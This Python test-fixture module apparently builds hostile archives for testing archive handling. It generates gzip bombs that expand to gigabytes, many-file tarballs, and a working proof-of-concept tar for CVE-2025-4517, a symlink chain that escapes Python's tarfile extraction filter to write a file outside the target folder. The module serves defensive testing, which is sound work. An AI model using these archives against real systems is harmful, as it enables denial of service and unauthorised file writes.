"""Hostile archives, built in milliseconds: gzip bombs and the CVE-2025-4517 symlink chain.

Used by ``tests/io_studies/test_archive.py`` and ``benchmarks/archive_limits.py``.
"""

from __future__ import annotations

import io
import tarfile
import zlib
from pathlib import Path

_MIB = 1 << 20


def _gzip_member(data: bytes) -> bytes:
    """One gzip member (a gzip file is any concatenation of them)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(data) + packer.flush()


def _header(name: str, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(format=tarfile.GNU_FORMAT)


def tar_gz_bomb(path: Path, n_files: int = 1, mib_per_file: int = 2048) -> Path:
    """A tar.gz of ``n_files`` members of ``mib_per_file`` MiB of zeros each.

    The zeros are one compressed MiB repeated (about 1 KB each), so the default
    (one 2 GiB member) is a file of about 2 MB written in milliseconds.
    """
    zero_mib = _gzip_member(bytes(_MIB))
    with open(path, "wb") as out:
        for k in range(n_files):
            out.write(_gzip_member(_header(f"bomb/{k:06d}.bin", mib_per_file * _MIB)))
            for _ in range(mib_per_file):
                out.write(zero_mib)
        out.write(_gzip_member(bytes(1024)))  # end-of-archive blocks
    return path


def many_files_tar_gz(path: Path, n_files: int = 50_000) -> Path:
    """A small tar.gz of ``n_files`` empty files."""
    with tarfile.open(path, "w:gz") as tar:
        for k in range(n_files):
            tar.addfile(tarfile.TarInfo(f"f/{k}"), io.BytesIO(b""))
    return path


def cve_2025_4517_tar(path: Path, escape_to: str = "escaped") -> Path:
    """The symlink chain of CVE-2025-4517 (Google's PoC, GHSA-hgqp-3mmf-7h8f).

    Sixteen nested folders with 247-character names, each reached through a one-letter
    symlink, push the resolved path past PATH_MAX, so that ``os.path.realpath`` stops
    resolving and the tarfile ``data`` filter of Python <= 3.13.3 takes the final
    symlink (``../`` * 16 then ``..``s) for an inside path; a file written through it
    lands at ``<root>/../<escape_to>``.
    """
    comp, steps, prefix = "d" * 247, "abcdefghijklmnop", ""
    with tarfile.open(path, "w") as tar:
        for step in steps:
            folder = tarfile.TarInfo(f"{prefix}{comp}")
            folder.type = tarfile.DIRTYPE
            tar.addfile(folder)
            link = tarfile.TarInfo(f"{prefix}{step}")
            link.type, link.linkname = tarfile.SYMTYPE, comp
            tar.addfile(link)
            prefix += comp + "/"
        long_link = "/".join(steps) + "/" + "l" * 254
        link = tarfile.TarInfo(long_link)
        link.type, link.linkname = tarfile.SYMTYPE, "../" * len(steps)
        tar.addfile(link)
        escape = tarfile.TarInfo("escape")
        escape.type, escape.linkname = tarfile.SYMTYPE, f"{long_link}/../{escape_to}"
        tar.addfile(escape)
        payload = tarfile.TarInfo("escape/evil.txt")
        payload.size = 4
        tar.addfile(payload, io.BytesIO(b"evil"))
    return path
